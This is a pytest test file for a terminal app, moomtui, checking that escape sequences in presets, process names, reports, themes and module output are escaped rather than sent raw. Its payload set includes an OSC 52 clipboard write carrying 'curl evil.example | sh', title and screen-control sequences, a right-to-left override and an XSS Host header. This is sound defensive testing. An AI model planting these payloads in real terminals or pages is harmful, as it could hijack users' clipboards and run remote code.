"""Text from data never reaches a terminal as something it would obey.

An escape sequence in a preset's protected name wrote the clipboard of a terminal that
honours OSC 52 the moment the preset ran; a process name in ``snapshot``, a task name in a
report and a report's malformed row printed their bytes as they were. Each input kind here
gets the same payloads — OSC 52, OSC 0, a CSI, a NUL, a C1 CSI, a right-to-left override —
in every field it has, and whatever moomtui prints or draws from it is searched for a raw
control character: on the command line's streams (``run``, ``check``, ``presets``,
``postmortem``/``snapshot --print``, JSON, every ``moomtui: …`` line) and on the screen
(what the widgets draw, read from a screenshot: the screen's own escape sequences are
Textual's and not in it). docs/threat-model.md, "Text from data", states the rule.
"""

from __future__ import annotations

import contextlib
import html
import io
import json
import os
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from textual.widgets import Input

from moomtui import cli, errors
from moomtui.presets import PresetError, Scenario, load_preset, parse_preset
from moomtui.presets.checker import Checker
from moomtui.presets.quoting import key_path
from moomtui.shell.profile import LOCAL_CONSOLE, SERVED, Profile
from moomtui.sim import Simulation
from moomtui.text import SafeStream, dumps, layout, quote, safe, styled, visible
from moomtui.tui.app import MoomApp
from moomtui.tui.components.console import ConsoleView
from moomtui.tui.controls import ShowControls, marked

ROOT = Path(__file__).resolve().parent.parent
MONGOD = ROOT / "examples" / "reports" / "mongod-3.10.txt"

PAYLOADS = {
    "osc52": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "osc0": "\x1b]0;pwned\x07",
    "csi": "\x1b[2J",
    "nul": "\x00",
    "c1": "\x9b31m",
    "rlo": "\u202e",
}
"""What a stranger puts in a field: the clipboard written (``curl evil.example | sh``), the
title changed, the screen cleared, a NUL, a C1 CSI, the text turned right to left."""

IDS = list(PAYLOADS)
HOSTILE = list(PAYLOADS.values())

RAW = frozenset(chr(c) for c in (*range(0x00, 0x09), *range(0x0B, 0x20), 0x7F, *range(0x80, 0xA0)))
"""Control characters no output may carry: C0 (the newline and tab aside), DEL, C1."""
BIDI = frozenset("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
"""The bidirectional controls (the marks, embeddings, overrides and isolates)."""
FORBIDDEN = RAW | BIDI


def raw_in(text: str) -> list[str]:
    """The forbidden characters in ``text``, in order (empty when it is clean)."""
    return [c for c in text if c in FORBIDDEN]


def assert_clean(text: str) -> None:
    found = raw_in(text)
    assert not found, f"raw control characters {found!r} in {text[:400]!r}"


def assert_one_clean_line(err: str) -> str:
    assert_clean(err)
    lines = err.splitlines()
    assert len(lines) == 1, err
    assert lines[0].startswith("moomtui") and "Traceback" not in err
    return lines[0]


def run_cli(*argv: str) -> tuple[int, str, str]:
    """``moomtui ARGV`` in-process: its status, stdout and stderr."""
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            status = cli.main(list(argv))
        except SystemExit as exit:  # argparse's usage errors
            status = exit.code if isinstance(exit.code, int) else 1
    return status, out.getvalue(), err.getvalue()


def screen_text(app: MoomApp) -> str:
    """What the screen draws, as characters: the screenshot's text, entities read."""
    return html.unescape(app.export_screenshot()).replace("\xa0", " ")


def toml_string(text: str) -> str:
    """``text`` as a TOML basic string, every character TOML wants escaped escaped."""
    out = []
    for c in text:
        if c in '"\\':
            out.append("\\" + c)
        elif not c.isprintable():
            out.append(f"\\u{ord(c):04x}" if ord(c) <= 0xFFFF else f"\\U{ord(c):08x}")
        else:
            out.append(c)
    return '"' + "".join(out) + '"'


@pytest.fixture(autouse=True)
def isolated_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setattr(Input, "cursor_blink", False)
    return tmp_path


# ============================================================ the rule and its forms
def test_visible_shows_each_payload_as_python_writes_it() -> None:
    assert visible(PAYLOADS["osc0"]) == "\\x1b]0;pwned\\x07"
    assert visible("a\x00b\x9b31m\u202ec\x7f") == "a\\x00b\\x9b31m\\u202ec\\x7f"
    assert visible("tab\there\nnext\r") == "tab\\there\\nnext\\r"
    assert visible("\U000e0001tag") == "\\U000e0001tag"  # a tag character (Cf)
    # Printed as themselves: text, a no-break space, a private-use glyph, emoji.
    assert visible("naïve café\u00a0€ \ue0b0 ✓ 😀") == "naïve café\u00a0€ \ue0b0 ✓ 😀"
    assert layout("a\x1b[2J\n\tb\r\n") == "a\\x1b[2J\n\tb\\r\n"
    assert quote('say "\x1b]0;x\x07" \\') == '"say \\"\\x1b]0;x\\x07\\" \\\\"'


@pytest.mark.parametrize("payload", HOSTILE, ids=IDS)
def test_layout_shows_a_payload_on_any_line_of_many(payload: str) -> None:
    """Printed lines are checked at once (most hold nothing to show): a payload on a middle
    line is shown as the same lines checked one by one show it."""
    text = f"a first line, 1 ‰\n  {payload} in the second\n\tthird\n"
    assert layout(text) == "\n".join(visible(line, "\n\t") for line in text.split("\n"))
    assert_clean(layout(text).replace("\n", "").replace("\t", ""))


@pytest.mark.parametrize("payload", HOSTILE, ids=IDS)
def test_json_escapes_what_a_terminal_would_act_on_and_round_trips(payload: str) -> None:
    doc = {"comm": f"a{payload}b", "naïve": "é", "far": "\U000e0001"}
    text = dumps(doc, indent=2)
    assert_clean(text)
    assert json.loads(text) == doc
    assert "é" in text  # readable names stay readable


def test_a_safe_stream_shows_every_write_and_keeps_the_layout() -> None:
    raw = io.StringIO()
    stream = safe(raw)
    assert safe(stream) is stream and styled(stream) is raw
    print("one\x1b]0;t\x07", "two", file=stream)
    stream.write("\tthree\x00\n")
    stream.writelines(["\x9b", "\n"])
    assert raw.getvalue() == "one\\x1b]0;t\\x07 two\n\tthree\\x00\n\\x9b\n"
    assert isinstance(stream, SafeStream) and stream.isatty() is False  # the rest: raw's


# ============================================================ presets: every string field
FULL: dict[str, Any] = {
    "name": "full",
    "description": "every key\nthe checker knows",
    "seed": 1,
    "length": "30s",
    "hint": "a hint",
    "hint_command": "the command to try",
    "columns": ["nice"],
    "machine": {
        "ram": "64M",
        "swap": "32M",
        "swap_speed": "10M/s",
        "jiffies": 1000,
        "cpus": 1,
        "page_cache": "4M",
        "kernel_memory": "1M",
    },
    "kernel": {
        "config": {"CONFIG_OOM_PANIC": "m", "CONFIG_OOM_KILL": "m", "CONFIG_OOM_KPPID": "m"},
        "modules": ["oom_kill"],
        "sysctl": {"vm.overcommit_memory": "1", "kernel.panic": 0},
    },
    "tasks": [
        {
            "comm": "hog",
            "pid": 100,
            "ppid": 1,
            "uid": 1000,
            "euid": 1000,
            "nice": 0,
            "oom_score_adj": 0,
            "caps": ["CAP_SYS_ADMIN"],
            "total_vm": "8M",
            "rss": "4M",
            "swap": "1M",
            "utime": 1,
            "stime": 1,
            "start_time": 0,
            "threads": 1,
            "program": "hog",
            "args": {"rate": "1M/s"},
            "role": "culprit",
            "count": 1,
        }
    ],
    "events": [{"at": "1s", "run": "lsmod"}],
    "goals": {
        "survive": "10s",
        "no_panic": True,
        "no_reboot": False,
        "protect": ["hog"],
        "max_kills": 3,
        "recover_within": "5s",
        "hands_off": False,
    },
    "score": {"by": "kills", "par": 1},
}
"""A preset that sets every key the checker knows (the test below keeps it so)."""


def check(doc: dict[str, Any]) -> Scenario:
    return Checker("x.toml").scenario(doc)


def nodes(value: object, path: str = "") -> Iterator[tuple[tuple[str | int, ...], str]]:
    """Every value under ``value`` (not itself): its place as keys, and its key path."""

    def walk(v: object, keys: tuple[str | int, ...], where: str) -> Iterator[Any]:
        if isinstance(v, dict):
            for k, child in v.items():
                shown = f"{where}.{key_path(k)}" if where else key_path(k)
                yield (*keys, k), shown
                yield from walk(child, (*keys, k), shown)
        elif isinstance(v, list):
            for i, child in enumerate(v):
                yield (*keys, i), f"{where}[{i}]"
                yield from walk(child, (*keys, i), f"{where}[{i}]")

    yield from walk(value, (), path)


def replaced(doc: Any, keys: tuple[str | int, ...], value: object) -> Any:
    doc = json.loads(json.dumps(doc))  # a deep copy
    target = doc
    for key in keys[:-1]:
        target = target[key]
    target[keys[-1]] = value
    return doc


def test_the_full_preset_is_good_and_sets_every_key_the_checker_knows(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Each table the checker reads names its keys; FULL must set every one of them, so a
    key added to the checker is fed the payloads below as soon as it is added here."""
    seen: list[tuple[str, tuple[str, ...], dict[str, Any]]] = []
    table = Checker.table

    def recording(self: Checker, path: str, value: object, allowed: tuple[str, ...]) -> Any:
        found = table(self, path, value, allowed)
        seen.append((path, allowed, found))
        return found

    monkeypatch.setattr(Checker, "table", recording)
    check(FULL)
    assert {path for path, _, _ in seen} >= {"", "machine", "kernel", "tasks[0]", "goals"}
    for path, allowed, found in seen:
        missing = set(allowed) - set(found)
        assert not missing, f"FULL leaves {sorted(missing)} of {path or 'the top'} unset"


PLACES = list(nodes(FULL))


@pytest.mark.parametrize("payload", HOSTILE, ids=IDS)
def test_every_value_of_a_preset_with_a_payload_is_refused_in_one_clean_line(
    payload: str,
) -> None:
    """Each value — strings, numbers, tables, arrays — replaced by a string holding the
    payload: refused, naming its key, the payload shown and not sent."""
    for keys, where in PLACES:
        for value in (payload, f"hog{payload}"):
            with pytest.raises(PresetError) as err:
                check(replaced(FULL, keys, value))
            message = str(err.value)
            assert message.startswith(f"x.toml: {where}: "), (where, message)
            assert_one_clean_line(f"moomtui: {message}")


@pytest.mark.parametrize("payload", HOSTILE, ids=IDS)
def test_a_key_with_a_payload_is_refused_in_one_clean_line(payload: str) -> None:
    tables = [((), "")] + [(k, w) for k, w in PLACES if isinstance(at(FULL, k), dict)]
    for keys, where in tables:
        doc = json.loads(json.dumps(FULL))
        at(doc, keys)[f"k{payload}"] = 1
        with pytest.raises(PresetError) as err:
            check(doc)
        message = str(err.value)
        assert message.startswith(f"x.toml: {where}"), (where, message)
        assert_one_clean_line(f"moomtui: {message}")


def at(doc: Any, keys: tuple[str | int, ...]) -> Any:
    for key in keys:
        doc = doc[key]
    return doc


def test_goals_protect_with_osc_52_is_refused_by_check_run_and_the_screen(
    tmp_path: Path,
) -> None:
    """The reproduction: ``check`` said ok and ``run`` wrote the clipboard."""
    path = tmp_path / "x.toml"
    path.write_text(f'name = "t"\n[goals]\nprotect = [{toml_string(PAYLOADS["osc52"])}]\n')
    for argv in (["check", str(path)], ["run", str(path), "--for", "1s"], [str(path)]):
        status, out, err = run_cli(*argv)
        assert (status, out) == (2, "")
        line = assert_one_clean_line(err)
        assert line.endswith(
            "goals.protect[0]: expected printable text (no control characters), "
            'got "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07"'
        )


@pytest.mark.parametrize("payload", HOSTILE, ids=IDS)
def test_a_user_preset_listed_by_presets_shows_its_payload(
    payload: str, isolated_home: Path
) -> None:
    folder = isolated_home / "config" / "moomtui" / "presets"
    folder.mkdir(parents=True)
    (folder / "mine.toml").write_text(
        f"name = {toml_string('n' + payload)}\ndescription = {toml_string('d' + payload)}\n"
    )
    status, out, err = run_cli("presets")
    assert (status, err) == (0, "")
    assert_clean(out)
    assert f"d{visible(payload)} (yours)" in out


# ============================================================ the console, scripts, themes
@pytest.mark.parametrize("payload", HOSTILE, ids=IDS)
def test_a_script_line_with_a_payload_is_one_clean_line(payload: str, tmp_path: Path) -> None:
    script = tmp_path / "s.txt"
    script.write_text(f"1s echo a{payload}b\n", encoding="utf-8")
    status, out, err = run_cli("run", "leaky-apache", "--for", "2s", "--script", str(script))
    assert (status, out) == (2, "")
    assert "syntax error" in assert_one_clean_line(err)


@pytest.mark.parametrize("profile", [LOCAL_CONSOLE, SERVED], ids=["local", "served"])
async def test_the_console_shows_what_is_typed_and_answers_without_sending_it(
    profile: Profile, tmp_path: Path
) -> None:
    """At the prompt of the screen and of a served session (what a visitor's browser
    gets): the line as typed, its echo and the answer are drawn, never sent."""
    sim = Simulation(load_preset("leaky-apache"), profile=profile)
    app = MoomApp(sim, paused=True, history_path=tmp_path / "h")
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.press("colon")
        prompt = app.query_one(ConsoleView).input
        for payload in HOSTILE:
            prompt.value = f"echo a{payload}b"
            await pilot.pause()
            assert_clean(screen_text(app))  # the prompt draws it
            await pilot.press("enter")
            await pilot.pause()
            assert_clean(screen_text(app))  # the echo and the answer
        console = app.query_one(ConsoleView).output.plain
    assert console.count("syntax error") == len(HOSTILE)
    assert "invisible character U+202E" in console


@pytest.mark.parametrize("payload", HOSTILE, ids=IDS)
def test_a_theme_with_a_payload_is_one_clean_line_on_the_screen_too(
    payload: str, isolated_home: Path
) -> None:
    from moomtui.tui.themes import discover_themes

    folder = isolated_home / "config" / "moomtui" / "themes"
    folder.mkdir(parents=True)
    colours = '[colors]\nprimary = "red"\n'
    (folder / "a.toml").write_text(f'name = "a"\ndescription = {toml_string(payload)}\n{colours}')
    (folder / "b.toml").write_text(f"name = {toml_string('b' + payload)}\n{colours}")
    (folder / "c.toml").write_text(f'name = "c"\n[colors]\nprimary = {toml_string(payload)}\n')
    if "\x00" not in payload:  # a file's name may hold anything but NUL and "/"
        (folder / f"d{payload}.toml").write_text("name = 1\n")
    themes, problems = discover_themes()
    assert not {"a", "c"} & set(themes)
    assert len(problems) == (3 if "\x00" in payload else 4)
    for problem in problems:
        assert_one_clean_line(f"moomtui: {problem}")


# ============================================================ /proc: snapshot
def fake_proc(root: Path, comm: str) -> None:
    """A /proc of two processes: init, and ``comm`` (pid 77) holding most of the memory."""
    (root / "sys" / "kernel").mkdir(parents=True)
    (root / "sys" / "kernel" / "osrelease").write_text("6.1.0-18-amd64\n")
    (root / "uptime").write_text("1234.50 999.00\n")
    (root / "meminfo").write_text("MemTotal: 4000000 kB\nMemFree: 100 kB\nSwapTotal: 0 kB\n")
    (root / "swaps").write_text("Filename Type Size Used Priority\n")
    mm = (
        "Uid:\t1000\t1000\t1000\t1000\nCapEff:\t0000000000000000\nThreads:\t1\n"
        "VmSize:\t  400000 kB\nVmRSS:\t  200000 kB\nVmSwap:\t  0 kB\n"
    )
    for pid, name, status in ((1, "systemd", mm.replace("1000", "0")), (77, comm, mm)):
        d = root / str(pid)
        d.mkdir()
        fields = ["S", "1", "1", "1", "0", "-1", str(0x400100)] + ["0"] * 4
        fields += ["250", "50", "0", "0", "20", "0", "1", "0", "1000"] + ["0"] * 30
        (d / "stat").write_text(f"{pid} ({name}) {' '.join(fields)}\n", encoding="utf-8")
        (d / "status").write_text(status)
        (d / "oom_score_adj").write_text("0\n")


@pytest.mark.parametrize("payload", [*HOSTILE, "\nforged row"], ids=[*IDS, "newline"])
def test_a_process_name_in_snapshot_is_shown_not_sent(payload: str, tmp_path: Path) -> None:
    """A local user names a process; ``snapshot`` printed the name as it was."""
    comm = f"ev{payload}il"
    fake_proc(tmp_path / "proc", comm)
    status, out, err = run_cli("snapshot", "--proc", str(tmp_path / "proc"), "--print")
    assert (status, err) == (0, "")
    assert_clean(out)
    assert f"77 (ev{visible(payload)}il)"[:26] in out  # the victim column: 26 wide
    assert not any(line.startswith("forged") for line in out.splitlines())
    status, out, _ = run_cli("snapshot", "--proc", str(tmp_path / "proc"), "--json")
    assert status == 0
    assert_clean(out)
    assert comm in {t["comm"] for t in json.loads(out)["tasks"]}  # the JSON keeps it exact
    written = tmp_path / "snap.toml"
    status, _, _ = run_cli("snapshot", "--proc", str(tmp_path / "proc"), "--preset", str(written))
    assert status == 0
    assert_clean(written.read_text())
    assert "ev" in load_preset(written).spec.tasks[-1].comm  # the preset it wrote loads


ALL = "".join(HOSTILE)
"""Every payload in one name."""


@pytest.mark.parametrize("command", ["snapshot", "postmortem"])
def test_names_from_data_on_a_real_terminal_send_it_nothing(command: str, tmp_path: Path) -> None:
    """End to end, on a pseudo-terminal: ``snapshot`` and ``postmortem`` open the screen on
    a machine whose process is named with every payload. The bytes moomtui writes to the
    terminal hold none of them; the screen shows their escapes."""
    from .terminal import Terminal

    if command == "snapshot":
        fake_proc(tmp_path / "proc", f"ev{ALL}il")
        argv = ["snapshot", "--proc", str(tmp_path / "proc")]
    else:
        (tmp_path / "r.txt").write_text(MONGOD.read_text().replace("java", f"ev{ALL}il"))
        argv = ["postmortem", str(tmp_path / "r.txt")]
    env = {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "HOME": str(tmp_path),
        "TERM": "xterm-256color",
        "LANG": "C.UTF-8",
        "PYTHONPATH": str(ROOT),
    }
    with Terminal([sys.executable, "-m", "moomtui", *argv], env=env, cwd=tmp_path) as term:
        term.wait_for("(ev\\x1b]52;c;Y3V")  # the console's first lines name the victim
        term.send("q")
        assert term.wait_exit() == 0, term.text()
        raw = bytes(term.raw)
    for sent in (b"\x1b]52;", b"\x1b]0;pwned", b"\x00", "\u009b".encode(), "\u202e".encode()):
        assert sent not in raw, sent


# ============================================================ reports: postmortem
def hostile_report(payload: str) -> str:
    return MONGOD.read_text().replace("java", f"ja{payload}va")


@pytest.mark.parametrize("payload", HOSTILE, ids=IDS)
def test_task_names_of_a_report_are_shown_not_sent(payload: str, tmp_path: Path) -> None:
    report = tmp_path / "r.txt"
    report.write_text(hostile_report(payload), encoding="utf-8")
    status, out, err = run_cli("postmortem", str(report), "--print")
    assert (status, err) == (0, "")
    assert_clean(out)
    assert f"2211 (ja{visible(payload)}va)" in out
    status, out, err = run_cli("postmortem", str(report), "--json")
    assert (status, err) == (0, "")
    assert_clean(out)
    assert json.loads(out)["reports"][0]["victim"]["comm"] == f"ja{payload}va"
    written = tmp_path / "r.toml"
    assert run_cli("postmortem", str(report), "--preset", str(written))[0] == 0
    assert_clean(written.read_text())
    load_preset(written)  # printable, as the checker asks


@pytest.mark.parametrize("payload", HOSTILE, ids=IDS)
def test_the_raw_row_quoted_in_an_error_is_one_clean_line(payload: str, tmp_path: Path) -> None:
    text = MONGOD.read_text().replace("[  640]     0   640", f"[  640]     0   x{payload}")
    report = tmp_path / "r.txt"
    report.write_text(text, encoding="utf-8")
    status, out, err = run_cli("postmortem", str(report), "--print")
    assert (status, out) == (2, "")
    line = assert_one_clean_line(err)
    assert "a task table row that does not fit the header" in line
    assert f"x{visible(payload)}" in line


async def test_the_rebuilt_machine_on_the_screen_shows_the_names(tmp_path: Path) -> None:
    from moomtui.real.preset import machine_preset
    from moomtui.real.rebuild import rebuild_log
    from moomtui.real.report import read_log
    from moomtui.real.screen import RealMachineApp, summary_lines

    payload = PAYLOADS["osc52"]
    (machine,) = rebuild_log(read_log(hostile_report(payload)), "r.txt")
    preset = machine_preset(machine, "r.txt")
    app = RealMachineApp(
        Simulation(parse_preset(preset.text, "t")),
        marked=preset.victim,
        lines=summary_lines(machine, preset),
        history_path=tmp_path / "history",
    )
    async with app.run_test(size=(160, 50)) as pilot:
        await pilot.pause()
        assert_clean(screen_text(app))
        console = app.query_one(ConsoleView).output.plain
    assert f"the kernel chose 2211 (ja{visible(payload)}va)" in console


# ============================================================ dmesg: a module's printk
POLICY = '''
from moomtui.modules.api import KERN_WARNING, Policy

class Chatty(Policy):
    """{description}"""

    name = "chatty_policy"

    def init(self) -> int:
        status = super().init()
        self.printk(KERN_WARNING, {message!r})
        return status
'''


@pytest.fixture
def chatty(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An installed package declaring a policy whose init prints every payload to dmesg
    (and whose description holds one): a preset may load it by name."""
    site = tmp_path / "site"
    info = site / "chatty_policy-1.0.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: chatty-policy\nVersion: 1.0\n")
    (info / "entry_points.txt").write_text(
        "[moomtui.modules]\nchatty_policy = chatty_policy_mod:Chatty\n"
    )
    source = POLICY.format(
        description=PAYLOADS["osc0"].encode("unicode_escape").decode(),
        message="dmesg " + "|".join(HOSTILE),
    )
    (site / "chatty_policy_mod.py").write_text(source)
    monkeypatch.syspath_prepend(str(site))
    preset = tmp_path / "chatty.toml"
    preset.write_text(
        'name = "chatty"\n[kernel]\nmodules = ["chatty_policy"]\n'
        '[[events]]\nat = "1s"\nrun = "modinfo chatty_policy"\n'
    )
    return preset


def test_a_modules_printk_is_shown_not_sent_by_run(chatty: Path) -> None:
    status, out, err = run_cli("run", str(chatty), "--for", "2s")
    assert (status, err) == (0, "")
    assert_clean(out)
    assert f"dmesg {'|'.join(visible(p) for p in HOSTILE)}" in out
    assert 'description: "\\x1b]0;pwned\\x07"' in out  # modinfo
    status, out, err = run_cli("run", str(chatty), "--for", "2s", "--json")
    assert status == 0
    assert_clean(out)
    texts = [r["text"] for r in json.loads(out)["dmesg"]]
    assert f"dmesg {'|'.join(HOSTILE)}" in texts


async def test_a_modules_printk_is_drawn_as_marks_on_the_screen(
    chatty: Path, tmp_path: Path
) -> None:
    app = MoomApp(load_preset(chatty), paused=True, history_path=tmp_path / "h")
    async with app.run_test(size=(160, 50)) as pilot:
        await pilot.pause()
        shot = screen_text(app)
    assert_clean(shot)
    assert "dmesg ␛]52;c;" in shot


# ============================================================ the screen's last word
async def test_any_text_that_reaches_a_widget_unchecked_is_drawn_as_marks(
    tmp_path: Path,
) -> None:
    """Whatever path nobody sanitised — a task renamed behind the checker's back, a note,
    a notification — the line filter draws a mark where a control character was."""
    app = MoomApp(load_preset("leaky-apache"), paused=True, history_path=tmp_path / "h")
    async with app.run_test(size=(160, 50)) as pilot:
        await pilot.pause()
        everything = "".join(HOSTILE)
        task = next(t for t in app.kernel.tasks.values() if t.pid > 6 and t.mm is not None)
        task.comm = f"x{PAYLOADS['osc0']}"
        app.console_view.note(f"note {everything}")
        app.notify(f"notify {everything}", markup=False)
        app.refresh_frame()
        await pilot.pause()
        shot = screen_text(app)
    assert_clean(shot)
    assert "note ␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==␇␛]0;pwned␇␛[2J␀�31m�" in shot


def test_the_filter_keeps_each_line_its_width() -> None:
    from rich.segment import Segment
    from textual.color import Color

    line = [Segment("ab\x1b]0;t\x07c"), Segment("   "), Segment("|")]
    shown = ShowControls().apply(line, Color(0, 0, 0))
    assert "".join(s.text for s in shown) == "ab␛]0;t␇c " + " "  # two marks, two cells less
    assert Segment.get_line_length(shown) == Segment.get_line_length(line)
    clean = [Segment("plain text")]
    assert ShowControls().apply(clean, Color(0, 0, 0)) is clean
    assert marked("\x00\x1b\x7f\x9b\u202e ok") == "␀␛␡�� ok"


# ============================================================ error lines
@pytest.mark.parametrize("payload", HOSTILE, ids=IDS)
def test_the_last_resort_line_shows_the_exception_text(
    payload: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert_one_clean_line(f"moomtui: {errors.internal_error(ValueError(f'x{payload}'))}")

    def broken(*args: object, **kwargs: object) -> int:
        raise RuntimeError(f"boom {payload}\nsecond line")

    monkeypatch.setattr("moomtui.headless.presets", broken)
    monkeypatch.delenv("MOOMTUI_DEBUG", raising=False)
    status, out, err = run_cli("presets")
    assert (status, out) == (errors.INTERNAL_ERROR, "")
    assert f"RuntimeError: boom {visible(payload)} second line" in assert_one_clean_line(err)


def test_an_argument_with_a_payload_is_one_clean_line() -> None:
    status, out, err = run_cli("run", "leaky-apache", "--for", PAYLOADS["osc0"])
    assert (status, out) == (2, "")
    assert_one_clean_line(err)
    status, out, err = run_cli("check", f"no{PAYLOADS['osc52']}.toml")
    assert (status, out) == (2, "")
    assert_one_clean_line(err)


def test_the_streams_are_put_back_after_a_command() -> None:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        cli.main(["presets"])
        assert sys.stdout is out and sys.stderr is err
    assert "leaky-apache" in out.getvalue()


# ============================================================ the served page
async def test_the_served_page_escapes_what_the_visitor_sent() -> None:
    """The page is built from the address the browser used (its ``Host``): written into
    the HTML escaped, never as markup."""
    from aiohttp.test_utils import make_mocked_request

    from moomtui.web.server import MoomServer

    # a public URL, so that a Host of any name is let in (on loopback without one, only a
    # loopback name is: a stranger's Host gets the refusal page, checked below too)
    server = MoomServer(public_url="http://moom.example/")
    web_app = await server._make_app()
    host = 'x"><script>alert(1)</script>'
    request = make_mocked_request("GET", "/?fontsize=<b>", headers={"Host": host}, app=web_app)
    response = await server.handle_index(request)
    page = response.text or ""
    assert "<script>alert(1)" not in page and "<b>" not in page
    refused = await MoomServer().handle_index(
        make_mocked_request("GET", "/", headers={"Host": host}, app=web_app)
    )
    assert refused.status == 403
    assert "<script>alert(1)" not in (refused.text or "")
